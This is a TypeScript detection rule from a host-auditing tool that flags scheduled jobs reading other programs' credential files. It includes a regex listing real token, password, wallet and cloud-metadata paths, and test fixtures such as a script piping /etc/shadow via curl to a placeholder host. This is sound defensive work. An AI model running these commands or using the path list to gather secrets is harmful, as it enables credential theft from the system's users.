import type { Activation } from "../inventory/activation.ts";
import { behavioursOf } from "../inventory/closure.ts";
import type { Inventory } from "../inventory/inventory.ts";
import { decodeUtf8 } from "../syntax/utf8.ts";
import { evidenceAt } from "./evidence.ts";
import { script, shipped, timed } from "./example-host.ts";
import type { ActivationRule } from "./rule.ts";
import { isStray } from "./standing.ts";

/** Places where programs keep the tokens of people (T1552.001, T1552.004, T1555). */
const SECRETS =
  /\.config\/gh\/hosts\.yml|\bgh auth token\b|\.aws\/credentials|\.git-credentials|\.npmrc\b|\.pypirc\b|\.docker\/config\.json|\.kube\/config|gcloud\/(credentials\.db|application_default)|\.azure\/(accessTokens|msal)|\/etc\/shadow\b|Login Data\b|logins\.json|\.bitcoin\/wallet|\.ethereum\/keystore|\/latest\/meta-data\/iam\/security-credentials|\/computeMetadata\/v1\S*\/service-accounts\/\S+\/token/;
/** Digests and permissions of a file tell nothing of what is in it. */
const LOOKS_ONLY =
  /(^|[|;&({`!]|\b(?:if|elif|while|then|else|do|sudo))\s*(?:(?:sha\d+sum|md5sum|b2sum|cksum|stat|chmod|chown|chgrp|chattr|lsattr|setfacl|getfacl|test|ls|touch|restorecon)\b|\[{1,2}\s)[^|;&]*$/;
/** What a copy leaves out. */
const EXCLUDED = /(--exclude|--skip|--ignore)[= ]["']?[^\s"']*$|(-not|!)\s+-(i?name|path)\s+["']?[^\s"']*$/;
/** A variable is given the name; nothing is read yet. */
const NAMED = /(^|\s)[A-Za-z_]\w*=["']?$/;
/** What an audit of accounts does: it looks at fields, line by line. */
const FILTERS =
  /(^|[|;&({`]|\b(?:if|elif|while|then|else|do|sudo))\s*(?:[gm]?awk|[ef]?grep|cut|sort|diff|cmp|wc|\$\{?[GM]?(?:AWK|GREP|SORT|CUT))\b[^|;&>]*$/;
const MAX_BYTES = 262_144;

export const readsStoredSecrets: ActivationRule = {
  id: "reads-stored-secrets",
  subject: "activation",
  title: "Reads tokens and passwords that belong to people or other programs",
  severity: "high",
  confidence: "low",
  signal: "suspicious",
  family: "execution",
  depth: "regular",
  techniques: ["T1552.001", "T1555", "T1053.006"],
  controls: ["IA-5", "SC-28", "SI-4"],
  why: "A timer that looks into other programs' token files collects them, or watches whether they still work. The token monitors of 2026 did so each minute. Before revoking the token: published reports describe a destructive reaction of one family when the token stops working, so take the unit out of service first.",
  benign: [
    "Backups that copy whole homes (they do not name single token files)",
    "A script that uses its owner's own token on purpose",
  ],
  clears: "give the job a token of its own by LoadCredential= or an environment file",
  references: ["https://attack.mitre.org/techniques/T1552/001/"],

  *check(activation, inventory) {
    for (const { path, line, text } of texts(activation, inventory)) {
      const match = SECRETS.exec(text);
      if (match === null || /^\s*(#|\/\/)/.test(text)) continue;
      const before = text.slice(0, match.index);
      if (LOOKS_ONLY.test(before) || EXCLUDED.test(before)) continue;
      const stays = NAMED.test(before) || (FILTERS.test(before) && !leaves(activation));
      yield {
        ...(stays ? { signal: "odd" as const } : {}),
        says: `it names ${match[0]}, where secrets are kept`,
        evidence: [evidenceAt(inventory, { path, line, column: match.index + 1, length: match[0].length })],
      };
      return;
    }
  },

  examples: () => ({
    fires: [
      timed("ExecStart=/usr/local/bin/mon", {
        "/usr/local/bin/mon": script("t=$(gh auth token)\ncurl -s https://api.example.test/user"),
      }),
      timed("ExecStart=/bin/cat /etc/shadow"),
      timed("ExecStart=/usr/local/bin/audit", {
        "/usr/local/bin/audit": script(`awk -F: '$2 == ""' /etc/shadow`),
      }),
      timed("ExecStart=/usr/local/bin/audit", {
        "/usr/local/bin/audit": script("grep root /etc/shadow | curl -d @- https://a.example.test/"),
      }),
      timed("ExecStart=/usr/local/bin/audit", {
        "/usr/local/bin/audit": script('F="/etc/shadow"\ncurl -s https://a.example.test/ping'),
      }),
    ],
    finds: {
      2: [
        "suspicious high low /etc/systemd/system/job.service:3: it names /etc/shadow, where secrets are kept",
      ],
      5: ["odd high low /usr/local/bin/audit:2: it names /etc/shadow, where secrets are kept"],
      3: ["odd high low /usr/local/bin/audit:2: it names /etc/shadow, where secrets are kept"],
      4: ["suspicious high low /usr/local/bin/audit:2: it names /etc/shadow, where secrets are kept"],
    },
    quiet: [
      timed("ExecStart=/usr/local/bin/mon", {
        "/usr/local/bin/mon": script(
          "tar --exclude=/etc/shadow -czf /srv/etc.tgz /etc\nfind /etc -type f -not -path /etc/shadow -print",
        ),
      }),
      timed("ExecStart=/usr/local/bin/mon", {
        "/usr/local/bin/mon": script("# never read /etc/shadow\ntrue"),
      }),
      timed("ExecStart=/usr/local/bin/audit", {
        "/usr/local/bin/audit": script("sha256sum /etc/passwd /etc/shadow > /var/lib/audit/new"),
      }),
      timed("ExecStart=/usr/local/bin/audit", {
        "/usr/local/bin/audit": script("if true; then\n:\nelif [ -s /etc/shadow ]; then\n:\nfi"),
      }),
      timed("EnvironmentFile=/etc/backup.env\nExecStart=/usr/bin/restic backup /home"),
      shipped(
        "vendor",
        "ExecStart=/usr/lib/vendor/run",
        { "/usr/lib/vendor/run": script("cat /etc/shadow") },
        "OnCalendar=daily",
        ["/usr/lib/vendor/run"],
      ),
      timed("ExecStart=/usr/local/bin/mon", {
        "/usr/local/bin/mon": { content: "ELF\n/etc/shadow\n", mode: 0o755 },
      }),
    ],
  }),
};

/** Something of the job goes to another machine. */
function leaves({ closure }: Activation): boolean {
  return [...behavioursOf(closure)].some(({ behaviour }) =>
    /^(exfiltrates|tunnel|network-ping|fetch)$/.test(behaviour.kind),
  );
}

interface Line {
  readonly path: string;
  readonly line: number;
  readonly text: string;
}

/** Command lines of the units, and lines of scripts nobody answers for. */
function* texts(activation: Activation, inventory: Inventory): Generator<Line> {
  const { closure } = activation;
  for (const { exec } of closure.commands)
    yield { path: exec.span.path, line: exec.span.line, text: exec.argv.join(" ").slice(0, 4096) };
  for (const file of closure.files) {
    if (file.role !== "script" || !isStray(file, inventory)) continue;
    const content = inventory.host.readFile(file.path, MAX_BYTES);
    if (content.kind !== "present") continue;
    for (const [index, text] of decodeUtf8(content.value.bytes).split("\n").entries())
      yield { path: file.path, line: index + 1, text: text.slice(0, 2048) };
  }
}
